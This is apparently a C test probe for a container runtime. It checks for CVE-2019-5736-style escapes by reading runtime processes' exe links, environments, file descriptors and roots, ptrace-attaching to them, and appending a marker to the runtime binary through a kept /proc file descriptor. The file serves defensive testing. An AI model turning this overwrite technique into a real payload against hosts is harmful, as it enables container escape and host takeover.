// probe: runs inside a container as its root and attacks every process of
// the runtime it can see (CVE-2019-5736 class). A runtime stage is found by
// its /proc/<pid>/cmdline, which the kernel shows even for a non-dumpable
// process; everything else the probe tries needs ptrace access to the stage,
// which the kernel grants to a process with the same uid and no fewer
// capabilities unless the stage is non-dumpable.
//
//   probe loop DEV INO SECRET   scan until /probe-done exists; one line per stage
//   probe once DEV INO SECRET   attack the first stage seen and print its line
//
// Per stage, repeated while the process still is that stage:
//   exe      open(/proc/P/exe, O_PATH) + fstat: is it the runtime copy (DEV:INO)?
//   environ  read /proc/P/environ: does it hold SECRET (the runtime caller's env)?
//   fd cwd root  readlink of /proc/P/fd/*, cwd, root (paths of the host)
//   ptrace   PTRACE_SEIZE, then interrupt and detach
// Output: stage pid=P tries=N exe=.. copy=yes|no environ=.. fd=.. cwd=.. root=.. ptrace=.. seccomp=..
// A result is "ok" only if the process was still the stage after the attempt
// (its cmdline re-read), "late" if it had exec'd the container's process by
// then, else the errno name. copy=yes and environ=secret prove themselves.
//
// If exe was the copy's inode, the probe keeps that O_PATH fd and, once
// /probe-done exists (the test says the runtime is idle), reopens it
// O_WRONLY through /proc/self/fd (retrying while ETXTBSY) and appends MARKER:
// the CVE-2019-5736 overwrite, made harmless. It writes nothing else, and only
// when the fd's dev:ino are DEV:INO.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define MARKER "\nTSRUNC-PROBE-CVE-2019-5736-MARKER\n"
#define MAX_TRIES 2000

static unsigned long long copy_dev, copy_ino;
static const char *secret;
static int kept_exe = -1;

static const char *errname(int e) {
  switch (e) {
  case EACCES: return "EACCES";
  case EPERM: return "EPERM";
  case ENOENT: return "ENOENT";
  case ESRCH: return "ESRCH";
  case ETXTBSY: return "ETXTBSY";
  default: {
    static char buf[32];
    snprintf(buf, sizeof buf, "E%d", e);
    return buf;
  }
  }
}

static ssize_t read_file(const char *path, char *buf, size_t size) {
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return -1;
  size_t n = 0;
  while (n < size - 1) {
    ssize_t r = read(fd, buf + n, size - 1 - n);
    if (r < 0) {
      int e = errno;
      close(fd);
      errno = e;
      return -1;
    }
    if (r == 0) break;
    n += r;
  }
  close(fd);
  buf[n] = 0;
  return (ssize_t)n;
}

/** A runtime stage: a process whose command line names tsrunc or runc. */
static int is_stage(int pid) {
  char path[64], buf[4096];
  snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
  ssize_t n = read_file(path, buf, sizeof buf);
  if (n <= 0) return 0;
  for (ssize_t i = 0; i < n; i++)
    if (!buf[i]) buf[i] = ' ';
  return strstr(buf, "runc") != NULL;
}

static int has_secret(const char *buf, size_t n) {
  size_t s = strlen(secret);
  for (size_t i = 0; i + s <= n; i++)
    if (!memcmp(buf + i, secret, s)) return 1;
  return 0;
}

/** One field's best result over the tries: 2 ok, 1 late, 0 denied (text: errno or value). */
struct field {
  int level;
  char text[1024];
};

static void record(struct field *f, int level, const char *text) {
  if (level < f->level || (level == f->level && f->text[0])) return;
  f->level = level;
  snprintf(f->text, sizeof f->text, "%s", text);
}

struct result {
  struct field exe, environ, fd, cwd, root, ptrace;
  int copy, secret_seen, tries;
};

static void show(const char *name, struct field *f, char *out, size_t size) {
  size_t len = strlen(out);
  const char *what = f->level == 2 ? "ok" : f->level == 1 ? "late" : "";
  if (f->level > 0)
    snprintf(out + len, size - len, " %s=%s%s%s", name, what, f->text[0] ? ":" : "", f->text);
  else
    snprintf(out + len, size - len, " %s=%s", name, f->text[0] ? f->text : "none");
}

/** One try of every attack; returns whether the process was still the stage afterwards. */
static int attack_once(int pid, struct result *r) {
  char path[300], buf[65536], link[4096];
  struct {
    int ok;
    char text[1024];
  } exe = {0}, env = {0}, fds = {0}, cwd = {0}, root = {0}, pt = {0};
  int exe_fd = -1;

  snprintf(path, sizeof path, "/proc/%d/exe", pid);
  exe_fd = open(path, O_PATH | O_CLOEXEC);
  if (exe_fd >= 0) {
    struct stat st;
    exe.ok = 1;
    if (fstat(exe_fd, &st) == 0) {
      int is_copy = (unsigned long long)st.st_dev == copy_dev && (unsigned long long)st.st_ino == copy_ino;
      snprintf(exe.text, sizeof exe.text, "%llu:%llu", (unsigned long long)st.st_dev, (unsigned long long)st.st_ino);
      if (is_copy) {
        r->copy = 1;
        if (kept_exe < 0) {
          kept_exe = exe_fd;
          exe_fd = -1;
        }
      }
    }
    if (exe_fd >= 0) close(exe_fd);
  } else {
    snprintf(exe.text, sizeof exe.text, "%s", errname(errno));
  }

  snprintf(path, sizeof path, "/proc/%d/environ", pid);
  ssize_t n = read_file(path, buf, sizeof buf);
  if (n >= 0) {
    env.ok = 1;
    int s = has_secret(buf, (size_t)n);
    if (s) r->secret_seen = 1;
    snprintf(env.text, sizeof env.text, "%s", s ? "secret" : "nosecret");
  } else {
    snprintf(env.text, sizeof env.text, "%s", errname(errno));
  }

  snprintf(path, sizeof path, "/proc/%d/fd", pid);
  DIR *d = opendir(path);
  if (d) {
    struct dirent *e;
    int denied = 0;
    size_t len = 0;
    while ((e = readdir(d))) {
      if (e->d_name[0] == '.') continue;
      snprintf(path, sizeof path, "/proc/%d/fd/%s", pid, e->d_name);
      ssize_t l = readlink(path, link, sizeof link - 1);
      if (l < 0) {
        denied = errno;
        continue;
      }
      link[l] = 0;
      len += snprintf(fds.text + len, len < sizeof fds.text ? sizeof fds.text - len : 0, "%s%s=%s", len ? "," : "", e->d_name, link);
      if (len >= sizeof fds.text) len = sizeof fds.text - 1;
      fds.ok = 1;
    }
    closedir(d);
    if (!fds.ok) snprintf(fds.text, sizeof fds.text, "%s", denied ? errname(denied) : "empty");
  } else {
    snprintf(fds.text, sizeof fds.text, "%s", errname(errno));
  }

  snprintf(path, sizeof path, "/proc/%d/cwd", pid);
  n = readlink(path, link, sizeof link - 1);
  if (n >= 0) {
    link[n] = 0;
    cwd.ok = 1;
    snprintf(cwd.text, sizeof cwd.text, "%.1000s", link);
  } else {
    snprintf(cwd.text, sizeof cwd.text, "%s", errname(errno));
  }
  snprintf(path, sizeof path, "/proc/%d/root", pid);
  n = readlink(path, link, sizeof link - 1);
  if (n >= 0) {
    link[n] = 0;
    root.ok = 1;
    snprintf(root.text, sizeof root.text, "%.1000s", link);
  } else {
    snprintf(root.text, sizeof root.text, "%s", errname(errno));
  }

  if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
    pt.ok = 1;
    // stop it only as long as it takes to detach (a seized tracee must be stopped for that)
    if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) == 0) {
      int status;
      waitpid(pid, &status, __WALL);
    }
    ptrace(PTRACE_DETACH, pid, 0, 0);
  } else {
    snprintf(pt.text, sizeof pt.text, "%s", errname(errno));
  }

  int still = is_stage(pid);
  int level = still ? 2 : 1;
  record(&r->exe, exe.ok ? level : 0, exe.text);
  record(&r->environ, env.ok ? level : 0, env.text);
  record(&r->fd, fds.ok ? level : 0, fds.text);
  record(&r->cwd, cwd.ok ? level : 0, cwd.text);
  record(&r->root, root.ok ? level : 0, root.text);
  record(&r->ptrace, pt.ok ? level : 0, pt.text);
  r->tries++;
  return still;
}

static void attack(int pid, int max_tries) {
  struct result r;
  memset(&r, 0, sizeof r);
  char seccomp[64] = "unknown";
  char path[64], status[8192];
  snprintf(path, sizeof path, "/proc/%d/status", pid);
  if (read_file(path, status, sizeof status) > 0) {
    char *s = strstr(status, "\nSeccomp:");
    if (s) sscanf(s + 9, " %63s", seccomp);
  }
  while (r.tries < max_tries && attack_once(pid, &r)) {
    // a stage that let everything through has told all it can
    if (r.exe.level == 2 && r.environ.level == 2 && r.ptrace.level == 2) break;
  }
  char out[8192];
  snprintf(out, sizeof out, "stage pid=%d tries=%d", pid, r.tries);
  show("exe", &r.exe, out, sizeof out);
  snprintf(out + strlen(out), sizeof out - strlen(out), " copy=%s", r.copy ? "yes" : "no");
  show("environ", &r.environ, out, sizeof out);
  snprintf(out + strlen(out), sizeof out - strlen(out), " secret=%s", r.secret_seen ? "yes" : "no");
  show("fd", &r.fd, out, sizeof out);
  show("cwd", &r.cwd, out, sizeof out);
  show("root", &r.root, out, sizeof out);
  show("ptrace", &r.ptrace, out, sizeof out);
  snprintf(out + strlen(out), sizeof out - strlen(out), " seccomp=%s\n", seccomp);
  if (write(1, out, strlen(out)) < 0) exit(3);
}

/** The CVE-2019-5736 write, through the kept O_PATH fd of the runtime's binary. */
static void overwrite(void) {
  char path[64];
  struct stat st;
  if (fstat(kept_exe, &st) != 0 || (unsigned long long)st.st_dev != copy_dev || (unsigned long long)st.st_ino != copy_ino) {
    dprintf(1, "cve-write refused: not the copy\n");
    return;
  }
  snprintf(path, sizeof path, "/proc/self/fd/%d", kept_exe);
  for (int i = 0; i < 5000; i++) { // 5 s: the runtime is idle by now
    int fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
    if (fd >= 0) {
      if (fstat(fd, &st) == 0 && (unsigned long long)st.st_dev == copy_dev && (unsigned long long)st.st_ino == copy_ino) {
        ssize_t w = write(fd, MARKER, strlen(MARKER));
        dprintf(1, "cve-write ok bytes=%zd\n", w);
      } else {
        dprintf(1, "cve-write refused: reopened file is not the copy\n");
      }
      close(fd);
      return;
    }
    if (errno != ETXTBSY) {
      dprintf(1, "cve-write %s\n", errname(errno));
      return;
    }
    usleep(1000);
  }
  dprintf(1, "cve-write ETXTBSY\n");
}

#define MAX_SEEN 4096
static int seen[MAX_SEEN], nseen;

static int was_seen(int pid) {
  for (int i = 0; i < nseen; i++)
    if (seen[i] == pid) return 1;
  return 0;
}

int main(int argc, char **argv) {
  if (argc < 5) {
    dprintf(2, "usage: probe loop|once DEV INO SECRET\n");
    return 2;
  }
  int once = !strcmp(argv[1], "once");
  copy_dev = strtoull(argv[2], 0, 10);
  copy_ino = strtoull(argv[3], 0, 10);
  secret = argv[4];
  int self = getpid();
  dprintf(1, "probe ready pid=%d\n", self);
  time_t deadline = time(0) + 60;
  int found = 0;
  while (!(once && found) && access("/probe-done", F_OK) != 0) {
    if (time(0) > deadline) {
      dprintf(1, "probe timeout\n");
      break;
    }
    DIR *d = opendir("/proc");
    if (!d) return 4;
    struct dirent *e;
    while ((e = readdir(d))) {
      int pid = atoi(e->d_name);
      if (pid <= 0 || pid == self || was_seen(pid)) continue;
      if (!is_stage(pid)) continue;
      if (nseen < MAX_SEEN) seen[nseen++] = pid;
      attack(pid, once ? 200 : MAX_TRIES);
      found = 1;
      if (once) break;
    }
    closedir(d);
  }
  if (kept_exe >= 0) {
    // the runtime's binary is busy (ETXTBSY) while any stage runs it: wait for the test's word
    while (access("/probe-done", F_OK) != 0 && time(0) <= deadline) usleep(1000);
    if (access("/probe-done", F_OK) == 0) overwrite();
  }
  dprintf(1, "probe done seen=%d\n", nseen);
  return 0;
}
